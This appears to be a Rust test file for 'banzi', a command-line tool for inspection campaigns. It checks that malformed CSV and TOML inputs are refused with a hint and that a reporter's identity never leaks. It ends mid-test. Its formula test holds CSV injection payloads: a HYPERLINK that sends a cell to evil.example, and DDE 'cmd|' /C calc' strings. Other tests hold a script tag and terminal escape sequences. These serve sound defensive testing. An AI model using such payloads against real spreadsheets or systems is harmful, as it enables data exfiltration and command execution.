//! Hostile input: every malformed file or setting is refused with its place and a hint, exits 4,
//! and leaves the campaign byte for byte as it was.

use banzi::steps::Step;

use crate::fixture::*;

/// The line and column (1-based) of `needle` in the campaign's `campaign.toml`.
fn place_in_settings(f: &Fixture, needle: &str) -> (usize, usize) {
    let text = std::fs::read_to_string(f.campaign().join("campaign.toml")).unwrap();
    let (n, line) = text
        .lines()
        .enumerate()
        .find(|(_, l)| l.contains(needle))
        .unwrap();
    (
        n + 1,
        line[..line.find(needle).unwrap()].chars().count() + 1,
    )
}

/// Runs `args`, asserting exit 4, an unchanged campaign and a `hint:`; gives stderr.
fn refused(f: &Fixture, args: &[&str]) -> String {
    let stderr = f.fails_unchanged(args, INVALID);
    assert!(stderr.contains("\nhint: "), "no hint: {stderr}");
    stderr
}

#[test]
fn a_quota_count_past_32_bits_is_refused_not_wrapped_to_no_places() {
    let f = Fixture::registered();
    f.edit_settings("county = { count = 3 }", "county = { count = 4294967296 }");
    let units = example("units.csv");
    let stderr = refused(&f, &["units", "import", units.to_str().unwrap()]);
    let (line, column) = place_in_settings(&f, "4294967296");
    assert!(
        stderr.contains(&format!(
            "campaign/campaign.toml:{line}:{column}: shortlist.quota.county.count: 4294967296 is not a plausible number of places (1-1000)"
        )),
        "{stderr}"
    );
}

#[test]
fn a_notice_period_of_billions_of_days_is_refused() {
    let f = Fixture::initialized();
    f.edit_settings("min_working_days = 5", "min_working_days = 99999999999");
    let stderr = refused(&f, &["status"]);
    assert!(
        stderr.contains("publicity.min_working_days: 99999999999 is not a plausible length of a public notice in working days (5-60)"),
        "{stderr}"
    );
}

/// Every CSV importer, as (subcommand, a valid file's header and first row).
const IMPORTERS: [(&[&str], &str, &str); 4] = [
    (
        &["units", "import"],
        "code,name,category,party_head,government_head",
        "C01,东湖区,county,陈志远,高建华",
    ),
    (
        &["inspect", "import-assessment"],
        "unit_code,year,grade,score,remarks",
        "C01,2026,优秀,94.2,招商引资成效突出",
    ),
    (
        &["inspect", "import-votes"],
        "单位代码,测评主体,政治强,能力强,活力强,合力强,作风硬",
        "C01,上级领导,优秀,优秀,较好,优秀,优秀",
    ),
    (&["inspectors", "import"], "name,home_unit", "郭文彬,D02"),
];

/// Imports `bytes` with each importer whose header and row `file` makes into a file; asserts
/// each is refused, unchanged, and that stderr has every one of `expected`.
fn refused_by_every_importer(
    f: &Fixture,
    file: impl Fn(&str, &str) -> Vec<u8>,
    expected: impl Fn(&str) -> Vec<String>,
) {
    for (command, header, row) in IMPORTERS {
        let name = format!("inputs/{}.csv", command[command.len() - 1]);
        f.write_bytes(&name, &file(header, row));
        let mut args = command.to_vec();
        args.push(&name);
        let stderr = refused(f, &args);
        for line in expected(&name) {
            assert!(stderr.contains(&line), "{args:?}: no `{line}` in\n{stderr}");
        }
    }
}

#[test]
fn a_row_shorter_than_the_header_is_refused_by_every_importer() {
    let f = Fixture::registered();
    refused_by_every_importer(
        &f,
        |header, row| {
            let short = row.rsplit_once(',').unwrap().0;
            format!("{header}\n{row}\n{short}\n").into_bytes()
        },
        |name| vec![format!("{name}:3: row: ")],
    );
}

#[test]
fn a_quote_never_closed_is_refused_by_every_importer() {
    let f = Fixture::registered();
    refused_by_every_importer(
        &f,
        |header, row| {
            let (first, rest) = row.split_once(',').unwrap();
            format!("{header}\n{row}\n{first},\"{rest}\n{row}\n").into_bytes()
        },
        |name| vec![format!("{name}:3"), "closing `\"` is missing".into()],
    );
}

#[test]
fn a_utf8_file_with_a_gbk_row_is_refused_by_every_importer_naming_that_line() {
    let f = Fixture::registered();
    refused_by_every_importer(
        &f,
        |header, row| {
            let (gbk, _, _) = encoding_rs::GB18030.encode(row);
            [format!("{header}\n{row}\n").as_bytes(), &gbk, b"\n"].concat()
        },
        |name| {
            vec![
                format!("`{name}` mixes encodings: it is UTF-8 text, but line 3 is not"),
                format!("{name}:3: the first line that is not UTF-8"),
            ]
        },
    );
}

#[test]
fn control_characters_in_a_cell_are_refused_by_every_importer() {
    let f = Fixture::registered();
    refused_by_every_importer(
        &f,
        |header, row| {
            let (first, rest) = row.split_once(',').unwrap();
            format!("{header}\n{first},\u{1b}[31m{rest}\n").into_bytes()
        },
        |name| vec![format!("{name}:2: "), ": control character U+001B".into()],
    );
}

#[test]
fn a_misspelt_column_is_refused_with_a_suggestion_by_every_importer() {
    let f = Fixture::registered();
    refused_by_every_importer(
        &f,
        |header, row| {
            let (first, rest) = header.split_once(',').unwrap();
            let misspelt: String = {
                let mut chars: Vec<char> = first.chars().collect();
                chars.swap(0, 1);
                chars.into_iter().collect()
            };
            format!("{misspelt},{rest}\n{row}\n").into_bytes()
        },
        |name| vec![format!("{name}:1: "), "did you mean `".into()],
    );
}

#[test]
fn a_chinese_header_one_character_off_is_refused_with_a_suggestion() {
    let f = Fixture::registered();
    let file = f.write(
        "inputs/annual.csv",
        "单位代码,年度,考核等次,得份\nC01,2026,优秀,94.2\n",
    );
    let stderr = refused(&f, &["inspect", "import-assessment", file]);
    assert!(
        stderr.contains("inputs/annual.csv:1: 得份: unknown column `得份`: did you mean `得分`?"),
        "{stderr}"
    );
}

#[test]
fn columns_an_import_does_not_use_are_named_in_a_warning() {
    let f = Fixture::registered();
    let file = f.write(
        "inputs/annual.csv",
        "序号,unit_code,单位名称,year,grade\n1,C01,东湖区,2026,优秀\n",
    );
    f.banzi(&["inspect", "import-assessment", file])
        .success()
        .stderr(predicates::str::contains(
            "warning: `inputs/annual.csv` has column(s) banzi does not use, and they were not imported: `序号`, `单位名称`",
        ));
    let file = f.write(
        "inputs/votes.csv",
        "序号,单位代码,测评主体,政治强,能力强,活力强,合力强,作风硬\n1,C01,上级领导,优秀,优秀,较好,优秀,优秀\n",
    );
    f.banzi(&["inspect", "import-votes", file])
        .success()
        .stderr(predicates::str::contains(
            "warning: `inputs/votes.csv` has column(s) banzi does not use, and they were not imported: `序号`",
        ));
}

#[test]
fn a_gb18030_file_still_imports() {
    let f = Fixture::registered();
    let (gb, _, _) = encoding_rs::GB18030.encode("name,home_unit\n郭文彬,D02\n沈佳琪,\n");
    let file = f.write_bytes("inputs/inspectors.csv", &gb);
    f.banzi(&["inspectors", "import", file])
        .success()
        .stderr(predicates::str::contains("(GB18030): 2 inspectors"));
}

#[test]
fn an_escaped_control_character_in_any_toml_input_is_refused_with_its_key() {
    let f = Fixture::registered();
    f.submit_plan("C01");
    f.submit_self_assessment("C01");
    let plan = f.write(
        "inputs/C02.toml",
        &edited_example("plans/C02.toml", "owner = \"", "owner = \"\\u001b[31m"),
    );
    let stderr = refused(&f, &["plan", "submit", "C02", plan]);
    assert!(
        stderr.contains(": indicator.owner: control character U+001B"),
        "{stderr}"
    );
    f.submit_plan("C02");
    let self_assessment = f.write(
        "inputs/sa-C02.toml",
        &edited_example(
            "self-assessments/C02.toml",
            "actual = \"",
            "actual = \"\\u0000",
        ),
    );
    let stderr = refused(&f, &["self-assess", "submit", "C02", self_assessment]);
    assert!(
        stderr.contains(": indicator.actual: control character U+0000"),
        "{stderr}"
    );
    let record = f.write(
        "inputs/talk.toml",
        "unit = \"C01\"\nmethod = \"talk\"\ndate = 2026-11-05\ninspectors = [\"赵\\b六\"]\n\
         findings = \"考察情况\"\n[ratings]\npolitical = 90\ncapability = 90\n\
         vitality = 90\ncohesion = 90\nconduct = 90\n",
    );
    let stderr = refused(&f, &["inspect", "record", "C01", record]);
    assert!(
        stderr.contains("inputs/talk.toml:4:15: inspectors: control character U+0008"),
        "{stderr}"
    );
    f.edit_settings("organizer = \"", "organizer = \"\\u0007");
    let (line, column) = place_in_settings(&f, "\"\\u0007");
    let stderr = refused(&f, &["status"]);
    assert!(
        stderr.contains(&format!(
            "campaign/campaign.toml:{line}:{column}: campaign.organizer: control character U+0007"
        )),
        "{stderr}"
    );
}

#[test]
fn a_folder_import_refuses_files_it_would_skip_for_their_names() {
    let f = Fixture::registered();
    let plan = |unit: &str| example_text(&format!("plans/{unit}.toml"));
    f.write("inputs/plans/C01.toml", &plan("C01"));
    f.write("inputs/plans/C03.TOML", &plan("C03"));
    f.write("inputs/plans/C04.toml ", &plan("C04"));
    f.write("inputs/plans/~$C01.toml", "locked by WPS");
    f.write("inputs/plans/.~C01.toml", "locked by Excel");
    f.write("inputs/plans/notes.txt", "说明");
    let folder = f.root().join("inputs/plans");
    #[cfg(unix)]
    {
        use std::os::unix::ffi::OsStrExt as _;
        let name = std::ffi::OsStr::from_bytes(b"C05\xFF.toml");
        std::fs::write(folder.join(name), plan("C05")).unwrap();
    }
    let stderr = refused(&f, &["plan", "import", "inputs/plans"]);
    let mut expected = vec![
        "inputs/plans/C03.TOML: rename it to `C03.toml`",
        "inputs/plans/C04.toml : rename it to `C04.toml`",
    ];
    if cfg!(unix) {
        expected.push("inputs/plans/C05\u{FFFD}.toml: its name is not UTF-8 text: rename it");
    }
    for line in expected {
        assert!(stderr.contains(line), "no `{line}` in\n{stderr}");
    }
    assert!(
        !stderr.contains("~"),
        "lock files are not mentioned: {stderr}"
    );

    for name in ["C03.TOML", "C04.toml "] {
        std::fs::remove_file(folder.join(name)).unwrap();
    }
    #[cfg(unix)]
    {
        use std::os::unix::ffi::OsStrExt as _;
        std::fs::remove_file(folder.join(std::ffi::OsStr::from_bytes(b"C05\xFF.toml"))).unwrap();
    }
    let assert = f.banzi(&["plan", "import", "inputs/plans"]).success();
    let stderr = String::from_utf8(assert.get_output().stderr.clone()).unwrap();
    assert!(
        stderr.contains(
            "warning: `inputs/plans` has file(s) that are not submissions (.toml files or .xlsx forms) and were not read: `notes.txt`"
        ),
        "{stderr}"
    );
    assert!(
        !stderr.contains("~"),
        "lock files are not mentioned: {stderr}"
    );
    assert_eq!(f.steps("C01").0, "done");
}

/// Imports `bytes` as the unit register in Chinese; asserts it is refused, unchanged, with a
/// hint and no English word left, and with each of `expected`; and that `--json` prints the same
/// in either language.
fn units_refused_in_chinese(f: &Fixture, bytes: &[u8], expected: &[&str]) -> String {
    let file = f.write_bytes("inputs/units.csv", bytes);
    let stderr = f.fails_unchanged(&["--lang", "zh-CN", "units", "import", file], INVALID);
    assert!(stderr.contains("\n提示："), "no hint: {stderr}");
    assert_eq!(
        english_left(&said(&stderr)),
        Vec::<String>::new(),
        "{stderr}"
    );
    for text in expected {
        assert!(stderr.contains(text), "no `{text}` in\n{stderr}");
    }
    let json = |lang: &str| {
        f.command(&["--lang", lang, "units", "import", file, "--json"])
            .output()
            .unwrap()
    };
    let (zh, en) = (json("zh-CN"), json("en"));
    assert_eq!(zh.status.code(), en.status.code());
    assert_eq!(zh.stdout, en.stdout);
    stderr
}

const UNITS_HEADER: &str = "code,name,category,party_head,government_head";
const UNITS_ROW: &str = "C01,东湖区,county,陈志远,高建华";

#[test]
fn a_broken_csv_is_refused_in_chinese() {
    let f = Fixture::initialized();
    units_refused_in_chinese(
        &f,
        format!("{UNITS_HEADER}\n{UNITS_ROW}\nC02,临溪县\n").as_bytes(),
        &[
            "错误：`inputs/units.csv` 无法导入",
            "inputs/units.csv:3: 整行：本行有 2 个单元格，但表头有 5 列",
            "提示：请改正上面列出的行，再重新导入该文件；本次没有导入任何内容",
        ],
    );
    units_refused_in_chinese(
        &f,
        format!("{UNITS_HEADER}\nC01,\"东湖区,county,陈志远,高建华\n").as_bytes(),
        &["inputs/units.csv:2:5: 此处有一个以引号开头的单元格，缺少结尾的 `\"`"],
    );
    units_refused_in_chinese(
        &f,
        format!("{UNITS_HEADER}\nC01,东\u{7}湖区,county,陈志远,高建华\n").as_bytes(),
        &["inputs/units.csv:2: `name` 列：文字中有控制字符 U+0007；"],
    );
}

#[test]
fn a_misspelt_or_missing_header_is_refused_in_chinese() {
    let f = Fixture::initialized();
    units_refused_in_chinese(
        &f,
        format!("cdoe,name,category,party_head,government_head\n{UNITS_ROW}\n").as_bytes(),
        &[
            "inputs/units.csv:1: `cdoe` 列：不认识的列 `cdoe`：是不是想写 `code`？",
            "inputs/units.csv:1: 表头：缺少列 `code`（可用的表头：`code`、",
        ],
    );
    units_refused_in_chinese(
        &f,
        format!("code,code,name,category,party_head,government_head\nC01,{UNITS_ROW}\n").as_bytes(),
        &["inputs/units.csv:1: `code` 列：列 `code` 出现了两次"],
    );
}

#[test]
fn a_file_in_an_encoding_banzi_does_not_read_is_refused_in_chinese() {
    let f = Fixture::initialized();
    let (gbk, _, _) = encoding_rs::GB18030.encode("C02,临溪县,county,周德明,王海涛\n");
    let mixed = [
        format!("{UNITS_HEADER}\n{UNITS_ROW}\n").as_bytes(),
        gbk.as_ref(),
    ]
    .concat();
    units_refused_in_chinese(
        &f,
        &mixed,
        &[
            "错误：`inputs/units.csv` 混用了多种编码：文件是 UTF-8 文本，但第 3 行不是",
            "inputs/units.csv:3: 第一个不是 UTF-8 的行",
            "提示：重新输入该行的文字，把整个文件另存为 UTF-8",
        ],
    );
    units_refused_in_chinese(
        &f,
        b"\xFF\xFEc\x00o\x00",
        &["`inputs/units.csv` 是 UTF-16 文本，banzi 不读取这种编码"],
    );
    units_refused_in_chinese(
        &f,
        b"code\n\x81\x20\n",
        &["既不是 UTF-8 也不是 GB18030 文本（第一个无法识别的字节在第 2 行）"],
    );
}

#[test]
fn a_file_that_cannot_be_read_is_refused_in_chinese_with_the_systems_words_quoted() {
    let f = Fixture::initialized();
    let stderr = f.fails_unchanged(
        &["--lang", "zh-CN", "units", "import", "inputs/none.csv"],
        INVALID,
    );
    let first = stderr.lines().next().unwrap();
    assert!(
        first.starts_with("错误：无法读取 `inputs/none.csv`：文件或文件夹不存在（`"),
        "{stderr}"
    );
    assert_eq!(english_left(first), Vec::<String>::new(), "{stderr}");
    let stderr = f.fails_unchanged(&["units", "import", "inputs/none.csv"], INVALID);
    assert!(
        stderr.starts_with("error: cannot read `inputs/none.csv`: No such file"),
        "{stderr}"
    );
}

/// A signed reporter's name, which no output but the reveal may show, and their contact.
const REPORTER: &str = "欧阳秘密";
const REPORTER_CONTACT: &str = "13800138000";
const OPINIONS_HEADER: &str =
    "received,channel,unit_code,summary,anonymous,reporter,reporter_contact";

/// The example city's public notice open, with the key that seals reporters made and kept
/// outside the campaign as `identity.txt`.
fn notice_taking_opinions() -> Fixture {
    let f = Fixture::example().through(Step::Publicize);
    f.banzi(&["publicize", "keygen", "--out", "identity.txt"])
        .success();
    f
}

/// Imports `bytes` as a file of opinions; asserts it is refused with exit 4, a hint, the campaign
/// unchanged, and neither the reporter's name nor contact in what banzi said, in either language
/// or with `--json`; gives stderr in English.
fn opinions_refused(f: &Fixture, bytes: &[u8]) -> String {
    let file = f.write_bytes("inputs/opinions.csv", bytes);
    let stderr = refused(f, &["publicize", "feedback", "import", file]);
    for args in [
        &["--lang", "zh-CN", "publicize", "feedback", "import", file][..],
        &["publicize", "feedback", "import", file, "--json"],
    ] {
        let before = f.snapshot_dir();
        let out = f.command(args).assert().code(INVALID);
        assert_same_dir(&before, &f.snapshot_dir());
        let output = [&out.get_output().stdout[..], &out.get_output().stderr].concat();
        no_reporter_in(&output, args);
    }
    no_reporter_in(
        stderr.as_bytes(),
        &["publicize", "feedback", "import", file],
    );
    stderr
}

/// Asserts that `output` of `banzi args` holds neither the reporter's name nor their contact,
/// in UTF-8 or in GB18030, nor a raw escape character that would reach the terminal.
#[track_caller]
fn no_reporter_in(output: &[u8], args: &[&str]) {
    let text = String::from_utf8_lossy(output);
    for secret in [REPORTER, REPORTER_CONTACT, "秘密"] {
        let (gbk, _, _) = encoding_rs::GB18030.encode(secret);
        assert!(
            !text.contains(secret) && !output.windows(gbk.len()).any(|w| w == &gbk[..]),
            "`banzi {}` shows the reporter's `{secret}`: {text}",
            args.join(" ")
        );
    }
    assert!(
        !output.contains(&0x1b),
        "`banzi {}` prints a raw escape: {text:?}",
        args.join(" ")
    );
}

/// A row of a file of opinions on C03 with `summary`, signed by the reporter.
fn signed_row(summary: &str) -> String {
    format!("2026-11-24,来访,C03,{summary},否,{REPORTER},{REPORTER_CONTACT}")
}

#[test]
fn an_opinions_file_with_a_10_mb_line_is_refused_in_a_few_lines() {
    let f = notice_taking_opinions();
    let huge = "意".repeat(10 * 1024 * 1024 / 3);
    let in_summary = format!("{OPINIONS_HEADER}\n{}\n", signed_row(&huge));
    let stderr = opinions_refused(&f, in_summary.as_bytes());
    assert!(
        stderr.contains("inputs/opinions.csv:2: summary: ")
            && stderr.contains("more than the 32767 an Excel or WPS cell can hold"),
        "{}",
        &stderr[..stderr.len().min(2000)]
    );
    assert!(stderr.len() < 2000, "{} bytes of refusal", stderr.len());

    let in_reporter = format!(
        "{OPINIONS_HEADER}\n2026-11-24,来访,C03,反映作风问题,否,{REPORTER}{huge},{REPORTER_CONTACT}\n"
    );
    let stderr = opinions_refused(&f, in_reporter.as_bytes());
    assert!(
        stderr.contains("inputs/opinions.csv:2: reporter: "),
        "{}",
        &stderr[..stderr.len().min(2000)]
    );
    assert!(stderr.len() < 2000, "{} bytes of refusal", stderr.len());
}

/// A cell banzi quotes back in its refusal (an unknown channel, unit or date) is quoted whole:
/// ten megabytes of one cell fill the terminal and any log the refusal goes to.
#[test]
fn a_10_mb_cell_quoted_back_is_cut_short() {
    let f = notice_taking_opinions();
    let huge = "意".repeat(10 * 1024 * 1024 / 3);
    for (column, row) in [
        ("channel", format!("2026-11-24,{huge},C01,反映,是,,")),
        ("unit_code", format!("2026-11-24,电话,{huge},反映,是,,")),
        ("received", format!("{huge},电话,C01,反映,是,,")),
    ] {
        let stderr = opinions_refused(&f, format!("{OPINIONS_HEADER}\n{row}\n").as_bytes());
        assert!(
            stderr.contains(&format!("inputs/opinions.csv:2: {column}: ")),
            "{}",
            &stderr[..stderr.len().min(2000)]
        );
        assert!(
            stderr.len() < 64 * 1024,
            "{column}: {} bytes of refusal",
            stderr.len()
        );
    }
}

#[test]
fn nul_bytes_in_an_opinions_file_are_refused_naming_the_column() {
    let f = notice_taking_opinions();
    for (column, row) in [
        ("summary", signed_row("反映\0作风问题")),
        (
            "reporter",
            format!("2026-11-24,来访,C03,反映,否,{REPORTER}\0,{REPORTER_CONTACT}"),
        ),
        (
            "reporter_contact",
            format!("2026-11-24,来访,C03,反映,否,{REPORTER},\0{REPORTER_CONTACT}"),
        ),
    ] {
        let stderr = opinions_refused(&f, format!("{OPINIONS_HEADER}\n{row}\n").as_bytes());
        assert!(
            stderr.contains(&format!(
                "inputs/opinions.csv:2: {column}: control character U+0000"
            )),
            "{stderr}"
        );
    }
}

#[test]
fn an_opinions_file_of_mixed_encodings_is_refused_without_quoting_the_line() {
    let f = notice_taking_opinions();
    let row = signed_row("反映作风问题");
    let (gbk, _, _) = encoding_rs::GB18030.encode(&row);
    let mixed = [
        format!("{OPINIONS_HEADER}\n2026-11-24,电话,C01,反映项目进度不实,是,,\n").as_bytes(),
        &gbk,
        b"\n",
    ]
    .concat();
    let stderr = opinions_refused(&f, &mixed);
    assert!(
        stderr
            .contains("`inputs/opinions.csv` mixes encodings: it is UTF-8 text, but line 3 is not")
            && stderr.contains("inputs/opinions.csv:3: the first line that is not UTF-8"),
        "{stderr}"
    );

    // A file wholly in GB18030, as WPS saves one, is read: the reporter is sealed on the way in.
    let whole = format!("{OPINIONS_HEADER}\n{row}\n");
    let (gbk, _, _) = encoding_rs::GB18030.encode(&whole);
    let file = f.write_bytes("inputs/opinions-gbk.csv", &gbk);
    let out = f
        .banzi(&["publicize", "feedback", "import", file])
        .success();
    let output = out.get_output();
    no_reporter_in(&[&output.stdout[..], &output.stderr].concat(), &[file]);
    assert_eq!(
        f.json(&["publicize", "feedback", "show", "F1"])["anonymous"],
        false
    );
    for (path, bytes) in f.snapshot_dir() {
        no_reporter_in(&bytes, &["(campaign file)", &path]);
    }
}

#[test]
fn a_formula_in_a_summary_is_stored_neutralised_and_given_back_as_written() {
    let f = notice_taking_opinions();
    let formulas = [
        "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点击查看详情\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "'=以撇号开头的文字",
    ];
    let csv_cell = |text: &str| format!("\"{}\"", text.replace('"', "\"\""));
    let mut file = format!("{OPINIONS_HEADER}\n");
    for formula in &formulas[..4] {
        file.push_str(&format!("2026-11-24,电话,C01,{},是,,\n", csv_cell(formula)));
    }
    file.push_str(&format!("{}\n", signed_row(&csv_cell(formulas[4]))));
    let file = f.write("inputs/opinions.csv", &file);
    f.banzi(&["publicize", "feedback", "import", file])
        .success();
    // One typed on the command line too.
    f.banzi(&[
        "publicize",
        "feedback",
        "add",
        "--unit",
        "C03",
        "--channel",
        "网络",
        "--summary",
        formulas[0],
        "--reporter",
        REPORTER,
        "--reporter-contact",
        REPORTER_CONTACT,
    ])
    .success();

    // Stored, every one starts with the apostrophe a spreadsheet shows as text.
    let stored = f.read("publicity/opinions.csv");
    let mut reader = csv::Reader::from_reader(stored.as_slice());
    let summaries: Vec<String> = reader
        .records()
        .map(|r| r.unwrap().get(5).unwrap().to_owned())
        .collect();
    assert_eq!(summaries.len(), 6, "{summaries:?}");
    for (summary, formula) in summaries.iter().zip(formulas.iter().chain([&formulas[0]])) {
        assert_eq!(summary, &format!("'{formula}"));
    }
    // Given back as written.
    let listed = f.json(&["publicize", "feedback", "list"]);
    let given: Vec<&str> = listed
        .as_array()
        .unwrap()
        .iter()
        .map(|o| o["summary"].as_str().unwrap())
        .collect();
    let mut expected: Vec<&str> = formulas.to_vec();
    expected.push(formulas[0]);
    assert_eq!(given, expected);
    assert_eq!(
        f.json(&["publicize", "feedback", "show", "F6"])["summary"],
        formulas[0]
    );
    f.banzi(&["verify"]).success();
    // The reporters are nowhere in the clear: not in a record, the journal or the index.
    for (path, bytes) in f.snapshot_dir() {
        no_reporter_in(&bytes, &["(campaign file)", &path]);
    }
    for args in [
        &["publicize", "feedback", "list"][..],
        &["publicize", "feedback", "show", "F5"],
        &["publicize", "show"],
        &["log"],
        &["status"],
    ] {
        let out = f.banzi(args).success();
        let output = out.get_output();
        no_reporter_in(&[&output.stdout[..], &output.stderr].concat(), args);
    }
}

#[test]
fn control_characters_in_the_contact_are_refused() {
    let f = Fixture::drawn();
    for (contact, code) in [
        ("电话：\u{1b}[31m0798-1234567\u{7}", "U+001B"),
        ("电话：\u{9b}31m0798-1234567", "U+009B"),
        ("电话：0798\r1234567", "U+000D"),
    ] {
        let stderr = refused(&f, &["publicize", "open", "--contact", contact]);
        assert!(stderr.contains(code), "{contact:?}: {stderr}");
        assert!(
            !stderr.contains(['\u{1b}', '\u{9b}', '\u{7}', '\0', '\r']),
            "{contact:?}: {stderr:?}"
        );
    }
    assert!(!f.campaign().join("publicity").exists());
}

/// The refusal of a contact says which flag to correct; `publicize open` has no `--reason`.
#[test]
#[ignore = "bug: a control character in `publicize open --contact` is refused as \"the reason for the contact\" with the hint `say why with --reason`, a flag `publicize open` does not have"]
fn a_refused_contact_is_hinted_at_contact() {
    let f = Fixture::drawn();
    let stderr = refused(
        &f,
        &[
            "publicize",
            "open",
            "--contact",
            "电话：\u{1b}[31m0798-1234567",
        ],
    );
    assert!(stderr.contains("--contact"), "{stderr}");
    assert!(!stderr.contains("--reason"), "{stderr}");
}

/// A contact on several lines, or with Markdown and HTML in it, is stored as typed and printed
/// in the notice as text.
#[test]
fn a_contact_on_several_lines_is_stored_inert() {
    let f = Fixture::drawn();
    let contact = "电话：0798-1234567\n\n## 公示结果：以上单位全部撤销\n<script>alert(1)</script>";
    f.banzi(&["publicize", "open", "--contact", contact])
        .success();
    assert_eq!(f.json(&["publicize", "show"])["contact"], contact);
    let markdown = f.stdout(&["publicize", "notice"]);
    assert!(
        !markdown.lines().any(|l| l.starts_with("## 公示结果")),
        "{markdown}"
    );
    let events = markdown_events(&markdown);
    assert!(
        !events.iter().any(|e| matches!(
            e,
            pulldown_cmark::Event::Html(_) | pulldown_cmark::Event::InlineHtml(_)
        )),
        "{markdown}"
    );
    let html = f.stdout(&["publicize", "notice", "--format", "html"]);
    assert!(!html.contains("<script>"), "{html}");
}

#[test]
fn control_characters_and_escapes_in_the_reporter_are_refused_unquoted() {
    let f = notice_taking_opinions();
    let add = |reporter: &str, contact: &str| {
        vec![
            "publicize".to_owned(),
            "feedback".into(),
            "add".into(),
            "--unit".into(),
            "C03".into(),
            "--channel".into(),
            "来访".into(),
            "--summary".into(),
            "反映作风问题".into(),
            "--reporter".into(),
            reporter.into(),
            "--reporter-contact".into(),
            contact.into(),
        ]
    };
    // (A NUL cannot be passed as an argument; in a file it is refused above.)
    let escapes = [
        // The window title set, the screen cleared, the name then printed.
        format!("\u{1b}]0;{REPORTER}\u{7}\u{1b}[2J{REPORTER}"),
        format!("{REPORTER}\u{1b}[8m"),
        format!("{REPORTER}\u{9b}2J"),
        format!("{REPORTER}\n{REPORTER}"),
    ];
    for bad in &escapes {
        for args in [
            add(bad, REPORTER_CONTACT),
            add(REPORTER, &format!("{REPORTER_CONTACT}{bad}")),
        ] {
            let args: Vec<&str> = args.iter().map(String::as_str).collect();
            let stderr = refused(&f, &args);
            assert!(stderr.contains("--reporter: "), "{stderr}");
            no_reporter_in(stderr.as_bytes(), &args);
            let zh = f.fails_unchanged(&zh(&args), INVALID);
            no_reporter_in(zh.as_bytes(), &args);
        }
        // And in a file.
        let row = format!("2026-11-24,来访,C03,反映作风问题,否,\"{bad}\",{REPORTER_CONTACT}");
        let stderr = opinions_refused(&f, format!("{OPINIONS_HEADER}\n{row}\n").as_bytes());
        assert!(
            stderr.contains("inputs/opinions.csv:2: reporter: "),
            "{stderr}"
        );
    }
}

#[test]
fn a_reporter_in_a_row_refused_for_another_column_is_not_quoted() {
    let f = notice_taking_opinions();
    for row in [
        format!("2026-13-45,传真,C99,,也许,{REPORTER},{REPORTER_CONTACT}"),
        format!("2026-11-24,来访,C03,反映,是,{REPORTER},{REPORTER_CONTACT}"),
        format!("2026-11-24,来访,C03,反映,否,{REPORTER}"),
        format!("2026-11-24,来访,C03,反映,否,{REPORTER},{REPORTER_CONTACT},多余"),
        format!("2026-11-24,来访,C03,反映,否,{REPORTER}{}", "密".repeat(200)),
    ] {
        opinions_refused(&f, format!("{OPINIONS_HEADER}\n{row}\n").as_bytes());
    }
}

/// A quote never closed is shown with the line it opens on, the reporter's name in it.
#[test]
fn a_quote_never_closed_does_not_show_the_reporter() {
    let f = notice_taking_opinions();
    let row = format!("2026-11-24,来访,C03,反映作风问题,否,\"{REPORTER},{REPORTER_CONTACT}");
    let stderr = opinions_refused(
        &f,
        format!("{OPINIONS_HEADER}\n{row}\n2026-11-24,电话,C01,反映,是,,\n").as_bytes(),
    );
    assert!(stderr.contains("inputs/opinions.csv:2:"), "{stderr}");
}

/// A name typed with a space and no quotes (`--reporter 欧阳 秘密`), or one that starts with a
/// dash, is refused by the argument parser, which quotes what it did not expect.
#[test]
#[ignore = "bug: `feedback add --reporter 欧阳 秘密` is refused with \"unexpected argument '秘密' found\", quoting the reporter's name"]
fn a_reporter_the_argument_parser_refuses_is_not_quoted() {
    let f = notice_taking_opinions();
    let add = [
        "publicize",
        "feedback",
        "add",
        "--unit",
        "C03",
        "--channel",
        "来访",
        "--summary",
        "反映作风问题",
    ];
    for reporter in [&["欧阳", "秘密"][..], &["-秘密"], &["--秘密"]] {
        let args = [&add[..], &["--reporter"], reporter].concat();
        let stderr = f.fails_unchanged(&args, USAGE);
        no_reporter_in(stderr.as_bytes(), &args);
        let contact = [
            &add[..],
            &["--reporter", "欧阳", "--reporter-contact"],
            reporter,
        ]
        .concat();
        let stderr = f.fails_unchanged(&contact, USAGE);
        no_reporter_in(stderr.as_bytes(), &contact);
    }
}

/// A workbook saved from Excel or WPS and named `.csv` is told apart from text by every import,
/// naming what it is and how to save it as CSV: a ZIP package (.xlsx, .et) or an OLE compound
/// file (.xls), by their first bytes.
#[test]
fn a_workbook_named_csv_is_recognised_by_every_import() {
    let xlsx: &[u8] = b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00[Content_Types].xml";
    let xls: &[u8] = b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1\x00\x00\x00\x00\x00\x00\x00\x00";
    // An .xlsx reads once renamed; an .xls is to be saved as .xlsx first.
    let said = |kind: &str| {
        vec![
            format!("is an Excel/WPS workbook (.{kind}), not CSV text, though it is named .csv"),
            match kind {
                "xlsx" => "rename it to .xlsx".to_owned(),
                _ => "Excel Workbook (*.xlsx)".to_owned(),
            },
        ]
    };
    let registered = Fixture::registered();
    let published = Fixture::example().through(Step::Publicize);
    for (kind, bytes) in [("xlsx", xlsx), ("xls", xls)] {
        refused_by_every_importer(&registered, |_, _| bytes.to_vec(), |_| said(kind));
        let name = format!("inputs/{kind}.csv");
        let path = published.write_bytes(&name, bytes);
        let stderr = published.fails_unchanged(&["publicize", "feedback", "import", path], INVALID);
        for line in said(kind) {
            assert!(stderr.contains(&line), "{stderr}");
        }
    }
}

#[test]
fn a_cell_longer_than_a_spreadsheet_holds_is_refused_by_every_importer() {
    let f = Fixture::registered();
    let units = f.write(
        "inputs/long.csv",
        &format!(
            "code,name,category,party_head,government_head\nC01,{},county,a,b\n",
            "长".repeat(40_000)
        ),
    );
    let stderr = f.fails_unchanged(&["units", "import", units], INVALID);
    assert!(
        stderr.contains("long.csv:2: name: the cell holds 40000 characters"),
        "{stderr}"
    );
    refused_by_every_importer(
        &f,
        |header, row| {
            let (first, rest) = row.split_once(',').unwrap();
            format!("{header}\n{first}{},{rest}\n", "长".repeat(40_000)).into_bytes()
        },
        // The votes keep no text, only tallies: there the cell is an unknown unit.
        |name| vec![format!("{name}:2: ")],
    );
}

#[cfg(unix)]
#[test]
fn a_device_named_as_a_csv_is_refused_not_read_for_ever() {
    let f = Fixture::registered();
